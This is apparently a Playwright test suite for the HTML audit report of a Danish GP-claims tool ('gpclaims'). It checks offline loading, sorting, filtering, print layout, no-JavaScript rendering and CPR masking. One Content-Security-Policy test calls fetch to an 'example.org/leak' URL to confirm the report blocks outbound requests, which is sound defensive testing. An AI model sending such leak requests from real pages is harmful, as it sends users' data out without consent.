// The audit's HTML report in a real headless Chromium: no network, sorting, filtering, opening, JavaScript off, print.
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditHtml } from '../src/formatters/audit-html.js';
import { auditFixture } from './audit-fixture.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const OUTPUT = resolve(import.meta.dirname, 'output');
const FILE = join(OUTPUT, 'audit.html');
const URL_OF_FILE = pathToFileURL(FILE).href;
const ctx = { tool: { name: 'gpclaims', version: '0.1.0' }, lang: 'da' as const, colorLevel: 0 as const };
// Launching Chromium takes seconds on a busy machine.
const SLOW = 120_000;

const audit = auditFixture();
const html = auditHtml(audit, ctx);
let browser: Browser;

beforeAll(async () => {
  // Not skipped when missing: CI installs Chromium, and a skipped browser test would pass unseen.
  if (!existsSync(CHROMIUM)) throw new Error(`Chromium is missing at ${CHROMIUM}: install it (apt-get install -y chromium) or set CHROMIUM_PATH`);
  mkdirSync(OUTPUT, { recursive: true });
  writeFileSync(FILE, html);
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
}, SLOW);

afterAll(async () => {
  await browser?.close();
});

/** A page with the report open, counting every request but the file's own (and aborting them), console errors and page errors. */
async function open(options: { javaScriptEnabled?: boolean } = {}): Promise<{ page: Page; requests: string[]; errors: string[]; close(): Promise<void> }> {
  const context = await browser.newContext({ javaScriptEnabled: options.javaScriptEnabled ?? true, viewport: { width: 1400, height: 900 } });
  const page = await context.newPage();
  const requests: string[] = [];
  const errors: string[] = [];
  page.on('request', (r) => {
    if (r.url() !== URL_OF_FILE) requests.push(r.url());
  });
  await page.route('**/*', (route) => {
    if (route.request().url() === URL_OF_FILE) return route.continue();
    requests.push(`routed ${route.request().url()}`);
    return route.abort();
  });
  page.on('console', (m) => {
    if (m.type() === 'error') errors.push(m.text());
  });
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto(URL_OF_FILE, { waitUntil: 'load' });
  return { page, requests, errors, close: () => context.close() };
}

/** The ydernumre of the practice table, top to bottom, of the rows shown. */
async function practiceOrder(page: Page): Promise<string[]> {
  return page.$$eval('#practice-table tbody.practice:not([hidden]) > tr.main > th', (cells) => cells.map((c) => (c.textContent ?? '').replace(/[▸▾]/g, '').trim()));
}

describe('the audit report in Chromium', { timeout: SLOW }, () => {
  it('loads with no console or page error and no request but the file itself', async () => {
    const { page, requests, errors, close } = await open();
    try {
      await page.waitForTimeout(300);
      expect(errors).toEqual([]);
      expect(requests).toEqual([]);
      expect(await page.getAttribute('html', 'lang')).toBe('da');
    } finally {
      await close();
    }
  });

  it('has one row per practice', async () => {
    const { page, close } = await open();
    try {
      const shown = await practiceOrder(page);
      expect(shown).toHaveLength(audit.practices.length);
      expect(new Set(shown)).toEqual(new Set(audit.practices.map((p) => p.practice)));
    } finally {
      await close();
    }
  });

  it.each([
    // [column header, value of a practice row, descending on the first click]
    ['Linjer', (p: (typeof audit.practices)[number]) => p.lines, true],
    ['Kroner i risiko', (p: (typeof audit.practices)[number]) => Number(p.amountAtRisk), true],
    ['Fejl', (p: (typeof audit.practices)[number]) => p.bySeverity.error, true],
  ] as const)('sorts by %s on a click, numerically, and back on a second', async (label, value, descending) => {
    const { page, close } = await open();
    try {
      const before = await practiceOrder(page);
      const header = page.locator('#practice-table thead th', { hasText: label }).first();
      await header.locator('button').click();
      const once = await practiceOrder(page);
      const byId = new Map(audit.practices.map((p) => [p.practice, value(p)]));
      const figures = once.map((id) => byId.get(id)!);
      const expected = [...figures].sort((a, b) => (descending ? b - a : a - b));
      expect(figures).toEqual(expected);
      expect(once).not.toEqual(before);
      expect(await header.getAttribute('aria-sort')).toBe(descending ? 'descending' : 'ascending');
      await header.locator('button').click();
      const twice = (await practiceOrder(page)).map((id) => byId.get(id)!);
      expect(twice).toEqual([...figures].sort((a, b) => (descending ? a - b : b - a)));
      expect(await header.getAttribute('aria-sort')).toBe(descending ? 'ascending' : 'descending');
    } finally {
      await close();
    }
  });

  it('sorts ydernumre as text, A-Z first', async () => {
    const { page, close } = await open();
    try {
      await page.locator('#practice-table thead th', { hasText: 'Ydernummer' }).locator('button').click();
      const ids = audit.practices.map((p) => p.practice);
      expect(await practiceOrder(page)).toEqual([...ids].sort());
    } finally {
      await close();
    }
  });

  it('filters the practices by what is typed: a ydernummer leaves its own row', async () => {
    const { page, close } = await open();
    try {
      const target = audit.practices[5]!.practice;
      await page.fill('#practice-filter', target);
      expect(await practiceOrder(page)).toEqual([target]);
      await expect.poll(() => page.textContent('#practice-status')).toContain(`Viser 1 af ${audit.practices.length}`);
      await page.fill('#practice-filter', '');
      expect(await practiceOrder(page)).toHaveLength(audit.practices.length);
    } finally {
      await close();
    }
  });

  it("opens a practice's findings when its row is clicked", async () => {
    const { page, close } = await open();
    try {
      // The practice with the most findings.
      const busiest = [...audit.practices].sort((a, b) => b.findings - a.findings)[0]!;
      const group = page.locator('#practice-table tbody.practice', { has: page.locator('tr.main > th', { hasText: busiest.practice }) });
      const findings = group.locator('tr.detail table.findings tbody tr');
      await expect.poll(() => findings.first().isVisible()).toBe(false);
      await group.locator('tr.main td').first().click();
      await expect.poll(() => findings.first().isVisible()).toBe(true);
      expect(await findings.count()).toBe(busiest.findings);
      expect(await group.locator('button.toggle').getAttribute('aria-expanded')).toBe('true');
      await group.locator('tr.main td').first().click();
      await expect.poll(() => findings.first().isVisible()).toBe(false);
    } finally {
      await close();
    }
  });

  it('has a Content-Security-Policy that blocks any fetch, and the blocked fetch makes no request', async () => {
    const { page, requests, close } = await open();
    try {
      const policy = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
      expect(policy).toMatch(/default-src 'none'/);
      expect(policy).toMatch(/connect-src 'none'/);
      expect(policy).not.toMatch(/unsafe-inline'[^;]*;?\s*$|script-src[^;]*unsafe-inline/);
      const outcome = await page.evaluate(async () => {
        const violations: string[] = [];
        document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
        let fetched: string;
        try {
          await fetch('https://example.org/leak?x=1');
          fetched = 'fetched';
        } catch (e) {
          fetched = `rejected: ${(e as Error).name}`;
        }
        await new Promise((r) => setTimeout(r, 100));
        return { fetched, violations };
      });
      expect(outcome.fetched).toBe('rejected: TypeError');
      expect(outcome.violations).toContain('connect-src');
      expect(requests).toEqual([]);
    } finally {
      await close();
    }
  });

  it('shows every practice row and the findings with JavaScript off', async () => {
    const { page, errors, close } = await open({ javaScriptEnabled: false });
    try {
      expect(await page.locator('#practice-table tbody.practice > tr.main').count()).toBe(audit.practices.length);
      expect(await page.locator('#practice-table tbody.practice > tr.main').first().isVisible()).toBe(true);
      // Not opened by a script: the ydernummer links to the practice's findings, whose <details> opens by its own summary.
      const busiest = [...audit.practices].sort((a, b) => b.findings - a.findings)[0]!;
      await page.locator('#practice-table tr.main th a', { hasText: busiest.practice }).click();
      const first = page.locator('#practice-findings details', { has: page.locator('summary', { hasText: busiest.practice }) });
      await first.locator('summary').click();
      expect(await first.locator('table.findings tbody tr').first().isVisible()).toBe(true);
      expect(errors).toEqual([]);
    } finally {
      await close();
    }
  });

  it('draws the legend marks at their own small size, and no sort arrow on the open buttons', async () => {
    const { page, close } = await open();
    try {
      const widths = await page.$$eval('figure.chart ul.legend svg', (marks) => marks.map((m) => m.getBoundingClientRect().width));
      expect(widths.length).toBe(4 * audit.statistics.length);
      expect(Math.max(...widths)).toBeLessThanOrEqual(30);
      const after = await page.$eval('#practice-table button.toggle', (b) => getComputedStyle(b, '::after').content);
      expect(after).toBe('none');
    } finally {
      await close();
    }
  });

  it("prints a closed practice's findings as a folded line, saying so", async () => {
    const { page, close } = await open();
    try {
      await page.emulateMedia({ media: 'print' });
      const closed = page.locator('#practice-findings details:not([open]) > summary').first();
      expect(await closed.isVisible()).toBe(true);
      const after = await closed.evaluate((s) => getComputedStyle(s, '::after').content);
      expect(after).toContain('foldet sammen');
      expect(await page.locator('#practice-findings details:not([open]) table.findings tbody tr').first().isVisible()).toBe(false);
    } finally {
      await close();
    }
  });

  it('holds no full CPR number, only masked ones', () => {
    expect(html.match(/\d{6}-?\d{4}/g)).toBeNull();
    expect(html).toMatch(/\b\d{6}-\*{4}/);
  });

  it('makes full-page screenshots, on screen and as printed', async () => {
    const { page, close } = await open();
    try {
      const busiest = [...audit.practices].sort((a, b) => b.findings - a.findings)[0]!;
      await page.locator('#practice-table tbody.practice tr.main', { hasText: busiest.practice }).locator('td').first().click();
      await page.screenshot({ path: join(OUTPUT, 'audit.png'), fullPage: true });
      await page.emulateMedia({ media: 'print' });
      await page.screenshot({ path: join(OUTPUT, 'audit-print.png'), fullPage: true });
      // In print the filter box and buttons are gone.
      expect(await page.locator('#practice-filter').isVisible()).toBe(false);
      expect(await page.locator('button.toggle').first().isVisible()).toBe(false);
      expect(existsSync(join(OUTPUT, 'audit-print.png'))).toBe(true);
    } finally {
      await close();
    }
  });
});
